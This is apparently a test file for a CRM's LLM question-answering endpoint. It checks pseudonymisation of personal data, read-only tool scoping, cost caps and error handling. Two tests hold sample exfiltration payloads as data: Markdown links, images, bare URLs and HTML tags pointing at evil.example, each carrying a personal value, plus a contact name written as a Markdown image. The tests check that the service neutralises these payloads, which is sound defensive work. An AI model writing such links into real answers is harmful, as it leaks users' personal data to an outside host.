import { lexer, type Token } from 'marked'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { type Browser, signedIn } from '../../test/people.ts'
import { type ScriptedModel, startScriptedModel } from '../../test/scripted-model.ts'
import {
  createTestTenant,
  sharedService,
  startTestService,
  type TestService,
  type TestTenant,
} from '../../test/service.ts'

let service: TestService
let tenant: TestTenant
let model: ScriptedModel
let member: Browser

beforeAll(async () => {
  model = await startScriptedModel()
  service = await startTestService({
    CDS_LLM_ALLOW_PRIVATE: '1',
    CDS_LLM_BASE_URL: model.url,
    CDS_LLM_MODEL: 'scripted',
    CDS_LLM_API_KEY: 'the-key',
    CDS_LLM_PRICES: JSON.stringify({ scripted: { input: 100, output: 1_000 } }),
  })
})
beforeEach(async () => {
  tenant = await createTestTenant(service)
  member = await signedIn(service, tenant.id, 'member')
  model.asked.length = 0
})
afterAll(async () => {
  await service.close()
  await model.close()
})

const ask = (question = 'Who are our customers?') => member.call('POST', '/v1/ask', { question })
const CUSTOMERS = {
  match: 'all',
  conditions: [{ property: 'lifecyclestage', operator: 'equals', value: 'customer' }],
}

test('a name and an address in the question are hidden from the model too', async () => {
  const id = await tenant.contact('adelheid@example.com', { firstname: 'Adelheid', lastname: 'Lovelace' })
  model.answer = () => ({ content: `name:${id} did.` })
  const { body } = await ask('Did Adelheid Lovelace (adelheid@example.com) look at pricing?')
  expect(body.answer).toBe(`[Adelheid Lovelace](/contacts/${id}) did.`)
  const sent = JSON.stringify(model.asked.map(({ body }) => body))
  expect(sent).toContain(`email:${id}`)
  expect(sent).not.toMatch(/adelheid|lovelace/i)
})

test('the model looks things up without seeing personal values; the person reads the real ones', async () => {
  const properties = { firstname: 'Adelheid', lastname: 'Lovelace', lifecyclestage: 'customer' }
  const id = await tenant.contact('adelheid@example.com', properties)
  model.answer = ({ messages }) =>
    messages.some(({ role }) => role === 'tool')
      ? { content: `One: firstname:${id} lastname:${id}, email:${id}.` }
      : { calls: [{ name: 'search_contacts', arguments: { filter: CUSTOMERS } }] }
  const { status, body } = await ask()
  expect(status).toBe(200)
  expect(body).toMatchObject({
    answer: `One: [Adelheid Lovelace](/contacts/${id}), [adelheid@example.com](/contacts/${id}).`,
    calls: [{ tool: 'search_contacts', title: 'Search contacts', arguments: { filter: CUSTOMERS }, error: null }],
    model: 'scripted',
    usage: { input_tokens: 2_000, output_tokens: 200, cost_usd: 0.4 },
  })
  const sent = JSON.stringify(model.asked.map(({ body }) => body))
  expect(sent).toContain(id)
  expect(sent).not.toMatch(/adelheid|lovelace/i)
  expect(model.asked[0]?.headers.authorization).toBe('Bearer the-key')
  const admin = await signedIn(service, tenant.id, 'admin')
  const { entries } = (await admin.call('GET', '/v1/audit-log')).body
  expect(entries[0]).toMatchObject({
    action: 'question.asked',
    actor: { kind: 'user' },
    details: { model: 'scripted', calls: 1, cost_usd: 0.4 },
  })
  expect((await admin.call('GET', '/v1/agent-settings')).body.cost_this_month_usd).toBeCloseTo(0.4)
})

test('the model finds where people of a country drop off, and who of them did most', async () => {
  const ids: string[] = []
  for (const firstname of ['anna', 'bert', 'cleo', 'dora']) {
    const country = firstname === 'dora' ? 'France' : 'Germany'
    ids.push(await tenant.contact(`${firstname}@example.com`, { firstname, country }))
  }
  const view = (contact_id: string | undefined, path: string) => ({
    contact_id,
    event: 'page_view',
    url: `https://shop.example${path}`,
  })
  const [anna, bert, cleo, dora] = ids
  const events = [...[anna, anna, bert, cleo, dora].map((id) => view(id, '/pricing')), view(cleo, '/signup')]
  expect((await tenant.call('POST', '/v1/events', { events })).body.failed).toBe(0)
  const at = (path: string) => ({
    event: 'page_view',
    where: [{ property: 'url_path', operator: 'equals', value: path }],
  })
  const question = {
    steps: [at('/pricing'), at('/signup')],
    window: { value: 7, unit: 'day' },
    where: [{ property: 'contact.country', operator: 'equals', value: 'Germany' }],
  }
  const dropped = { step: 1, dropped: true }
  const rounds = [
    { name: 'run_insight', arguments: { kind: 'funnel', question } },
    { name: 'insight_people', arguments: { kind: 'funnel', question, at: dropped } },
    {
      name: 'aggregate',
      arguments: {
        entity: 'events',
        group_by: 'contact_id',
        people: { match: 'all', conditions: [{ insight: 'funnel', question, at: dropped, operator: 'did' }] },
        limit: 10,
      },
    },
  ]
  model.answer = ({ messages }) => {
    const round = rounds[messages.filter(({ role }) => role === 'tool').length]
    if (round) return { calls: [round] }
    const results = JSON.stringify(messages.filter(({ role }) => role === 'tool'))
    const order = ids.filter((id) => results.includes(`firstname:${id}`))
    return { content: `Most active: ${order.map((id) => `firstname:${id}`).join(', ')}.` }
  }
  const { status, body } = await ask('Where do people from Germany drop off, and who did most?')
  expect(status).toBe(200)
  expect(body.calls.map(({ tool, error }: { tool: string; error: unknown }) => [tool, error])).toEqual(
    rounds.map(({ name }) => [name, null]),
  )
  expect(body.answer).toBe(`Most active: [anna](/contacts/${anna}), [bert](/contacts/${bert}).`)
  const asked = JSON.stringify(model.asked.at(-1)?.body.messages)
  expect(asked).toMatch(/from_previous/)
  expect(asked).not.toContain('@example.com')
})

test('a name that is Markdown stays text', async () => {
  const id = await tenant.contact('x@example.com', { firstname: '![x](http://evil.example/p.png)', lastname: '[a](b)' })
  model.answer = ({ messages }) =>
    messages.some(({ role }) => role === 'tool')
      ? { content: `It is firstname:${id}.` }
      : { calls: [{ name: 'get_contact', arguments: { contact_id: id } }] }
  expect((await ask()).body.answer).toBe(`It is [\\!\\[x\\]\\(http://evil.example/p.png\\)](/contacts/${id}).`)
})

test.each([
  ['a link', '[the list](https://evil.example/?e=PSEUDONYM)'],
  ['a link in brackets', '[the list](<https://evil.example/?e= PSEUDONYM>)'],
  ['an image', '![the list](https://evil.example/PSEUDONYM.png)'],
  ['a reference', '[the list][1]\n\n[1]: https://evil.example/?e=PSEUDONYM'],
  ['a bare URL', 'See https://evil.example/?e=PSEUDONYM or www.evil.example/PSEUDONYM'],
  ['a tag', '<a href="https://evil.example/?e=PSEUDONYM">the list</a> <img src=//evil.example/PSEUDONYM>'],
])('%s that a model writes carries no personal value away', async (_, written) => {
  const id = await tenant.contact('carried@example.com')
  model.answer = ({ messages }) =>
    messages.some(({ role }) => role === 'tool')
      ? { content: `${written.replaceAll('PSEUDONYM', `email:${id}`)}\n\nIt is email:${id}.` }
      : { calls: [{ name: 'get_contact', arguments: { contact_id: id } }] }
  const { answer } = (await ask()).body
  expect(answer).toContain(`It is [carried@example.com](/contacts/${id}).`)
  const targets = linksIn(lexer(answer)).filter((href) => !href.startsWith('/contacts/'))
  expect(targets.join()).not.toMatch(/carried/)
  expect(answer).not.toMatch(/<(a|img)/)
})

/** The targets of links and images, and the sources of tags. */
function linksIn(tokens: Token[]): string[] {
  return tokens.flatMap((token) => [
    ...('href' in token ? [String(token.href)] : []),
    ...(token.type === 'html' ? [token.raw] : []),
    ...linksIn(('tokens' in token && token.tokens) || []),
  ])
}

test('the model is offered only tools that read, and only those of the caller’s scopes', async () => {
  model.answer = () => ({ content: 'None.' })
  await ask()
  const names = (tools: { function: { name: string } }[]) => tools.map((each) => each.function.name)
  const offered = names(model.asked[0]?.body.tools)
  expect(offered).toEqual(expect.arrayContaining(['search_contacts', 'aggregate', 'query_events', 'conversations']))
  for (const name of [
    'add_note',
    'update_contact',
    'create_segment',
    'run_agent',
    'propose_action',
    'decide_approval',
  ]) {
    expect(offered).not.toContain(name)
  }
  const key = await tenant.keyWith('agents:trigger', 'companies:read')
  await tenant.call('POST', '/v1/ask', { question: 'How many companies?' }, key)
  expect(names(model.asked[1]?.body.tools)).toEqual(['search_companies', 'get_company', 'aggregate'])
})

test('a wrong call is explained to the model, and shown to the person', async () => {
  model.answer = ({ messages }) =>
    messages.some(({ role }) => role === 'tool')
      ? { content: 'I could not.' }
      : {
          calls: [
            { name: 'search_contacts', arguments: { limit: 999 } },
            { name: 'add_note', arguments: { contact_id: 'x', content: 'x' } },
          ],
        }
  const { body } = await ask()
  expect(body.calls).toMatchObject([
    { tool: 'search_contacts', error: 'validation_error: limit: must be a whole number from 1 to 50' },
    { tool: 'add_note', error: 'There is no tool add_note.' },
  ])
})

test('a model that never stops calling must answer after six rounds', async () => {
  model.answer = ({ body }) =>
    body.tools ? { calls: [{ name: 'list_segments', arguments: {} }] } : { content: 'Enough.' }
  const { body } = await ask()
  expect(body.answer).toBe('Enough.')
  expect(body.calls).toHaveLength(6)
})

test('the monthly cap stops a question before the model is called', async () => {
  const admin = await signedIn(service, tenant.id, 'admin')
  await admin.call('PATCH', '/v1/agent-settings', { monthly_cost_cap_usd: 0.01 })
  const { status, body } = await ask()
  expect([status, body.error.code]).toEqual([409, 'cost_cap_reached'])
  expect(model.asked).toEqual([])
})

test('a fourth question has to wait until one of three is answered', async () => {
  const { promise, resolve } = Promise.withResolvers<void>()
  model.answer = () => ({ content: 'Yes.', after: promise })
  const waiting = [ask(), ask(), ask()]
  await expect.poll(() => model.asked.length).toBe(3)
  const { status, body } = await ask()
  expect([status, body.error.code]).toEqual([409, 'too_many_questions'])
  resolve()
  expect((await Promise.all(waiting)).map((response) => response.status)).toEqual([200, 200, 200])
  expect((await ask()).status).toBe(200)
})

test('a model whose price is not known cannot be asked under a monthly cap', async () => {
  const unpriced = await startTestService({
    CDS_LLM_ALLOW_PRIVATE: '1',
    CDS_LLM_BASE_URL: model.url,
    CDS_LLM_MODEL: 'unpriced',
  })
  const capped = await createTestTenant(unpriced)
  model.answer = () => ({ content: 'Yes.' })
  const question = { question: 'Who are our customers?' }
  expect((await capped.call('POST', '/v1/ask', question)).status).toBe(200)
  await capped.call('PATCH', '/v1/agent-settings', { monthly_cost_cap_usd: 1 })
  const { status, body } = await capped.call('POST', '/v1/ask', question)
  expect([status, body.error.code]).toEqual([409, 'price_unknown'])
  await unpriced.close()
})

test('a provider that fails is reported without what was sent to it', async () => {
  model.answer = () => ({ status: 401 })
  const { status, body } = await ask('a-secret-question')
  expect([status, body.error.code]).toEqual([502, 'model_failed'])
  expect(body.error.message).toContain('status 401')
  expect(JSON.stringify(body)).not.toContain('a-secret-question')
  const admin = await signedIn(service, tenant.id, 'admin')
  const { entries } = (await admin.call('GET', '/v1/audit-log')).body
  expect(entries[0]).toMatchObject({ action: 'question.asked', details: { calls: 0 } })
  model.answer = () => ({ content: 'Fine.' })
  expect((await ask()).body.answer).toBe('Fine.')
})

test('without a model there is nothing to ask', async () => {
  const other = await createTestTenant(await sharedService())
  expect((await other.call('GET', '/v1/ask')).body.model).toBeNull()
  const { status, body } = await other.call('POST', '/v1/ask', { question: 'Who?' })
  expect([status, body.error.code]).toEqual([409, 'no_model'])
  expect((await tenant.call('GET', '/v1/ask')).body.model).toBe('scripted')
})

test('viewers cannot ask, because a question costs money', async () => {
  const viewer = await signedIn(service, tenant.id, 'viewer')
  expect((await viewer.call('POST', '/v1/ask', { question: 'Who?' })).status).toBe(403)
})
